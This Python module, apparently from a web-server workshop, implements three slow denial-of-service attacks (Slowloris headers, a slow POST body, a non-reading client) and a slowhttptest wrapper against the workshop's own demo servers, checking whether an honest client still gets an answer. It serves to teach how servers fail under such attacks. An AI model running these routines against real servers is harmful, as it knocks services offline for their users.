"""Three ways to stop a server by being slow, and Debian's tool for it where it is installed.

Run them with `python3 -m workshop attack 4`. Each needs one connection and next to no bytes: A is
the attacker, and B is an honest client that comes after it.
"""

import shutil
import subprocess
import time
from collections.abc import Callable
from contextlib import suppress

from workshop.attacks import Attack, Outcome, Target

DEMO_OPTIONS = ("--hurry",)  # what the attacked demo.py is started with
STEP = 0.1  # seconds from one drop to the next
GET = b"GET / HTTP/1.1\r\nHost: shop\r\n\r\n"


def slow_head(target: Target) -> Outcome:
    """A head that never ends: one field after the other, byte by byte."""
    attacker = Dripper(target, b"GET / HTTP/1.1\r\nHost: shop\r\n", b"X-More: and more\r\n")
    return besieged(target, attacker.drip, 3.0, attacker.heard)


def slow_body(target: Target) -> Outcome:
    """A body of a megabyte, at ten bytes a second."""
    head = b"POST /letters HTTP/1.1\r\nHost: shop\r\nContent-Length: 1000000\r\n\r\n"
    attacker = Dripper(target, head, b"x")
    return besieged(target, attacker.drip, 2.5, attacker.heard)


def slow_reader(target: Target) -> Outcome:
    """Ask for a film and for the page, thousands of times, and read none of the answers."""
    client = target.connect()
    client.socket.setblocking(False)
    with suppress(BlockingIOError):
        client.socket.send(GET.replace(b"/ ", b"/film ", 1) * 20)
        for _ in range(100):
            client.socket.send(GET * 200)
    return besieged(target, lambda: None, 3.0, lambda: "reads nothing")


class Dripper:
    """An attacker that sends a beginning, and then one byte at a time."""

    def __init__(self, target: Target, begin: bytes, more: bytes) -> None:
        self._client = target.connect()
        self._client.socket.sendall(begin)
        self._more, self._sent = more, 0

    def drip(self) -> None:
        """The next byte, if anybody still listens."""
        place = self._sent % len(self._more)
        with suppress(OSError):
            self._client.socket.sendall(self._more[place : place + 1])
            self._sent += 1

    def heard(self) -> str:
        """What it did, and what it was told."""
        self._client.socket.settimeout(0.05)
        try:
            told = self._client.socket.recv(65536).partition(b"\r\n")[0].decode()
        except OSError:
            told = ""
        return f"sent {self._sent} bytes more, and was told {told or 'nothing'}"


def besieged(
    target: Target, drip: Callable[[], None], seconds: float, heard: Callable[[], str]
) -> Outcome:
    """Whether an honest client waits in vain for so many seconds, while `drip` goes on."""
    start, victim = time.monotonic(), target.connect()
    victim.socket.sendall(GET)
    victim.socket.settimeout(STEP)
    reply = b""
    while not reply and time.monotonic() < start + seconds:
        drip()
        with suppress(TimeoutError):
            reply = victim.socket.recv(12)
    waited = time.monotonic() - start
    victim.close()
    if reply == b"HTTP/1.1 200":
        return Outcome(False, f"B  200 after {waited:.1f} s\nA  {heard()}")
    return Outcome(True, f"B  no answer after {waited:.1f} s\nA  {heard()}")


def by_slowhttptest(target: Target) -> Outcome:
    """The same as the first, by a tool that everybody can install."""
    host, port = target.address[:2]
    command = ["slowhttptest", "-H", "-c", "1", "-r", "1", "-i", "1", "-l", "4"]
    with subprocess.Popen(
        [*command, "-u", f"http://{host}:{port}/"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as tool:
        try:
            time.sleep(0.3)  # it connects first
            return besieged(target, lambda: None, 3.0, lambda: " ".join(command))
        finally:
            tool.kill()


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "Slowloris",
        story="One client sends its head byte by byte, and never comes to the end.",
        victim="previous",
        run=slow_head,
    ),
    Attack(
        "Slow body",
        story="One client announces a megabyte and sends ten bytes a second. The naive server has "
        "a timeout: for each recv.",
        victim="naive",
        run=slow_body,
    ),
    Attack(
        "Slow reader",
        story="One client asks for a great deal and reads none of it.",
        victim="previous",
        run=slow_reader,
    ),
)
if shutil.which("slowhttptest"):
    ATTACKS += (
        Attack(
            "Slowloris, by slowhttptest",
            story="The first attack again, by a tool from Debian's shelves.",
            victim="previous",
            run=by_slowhttptest,
        ),
    )
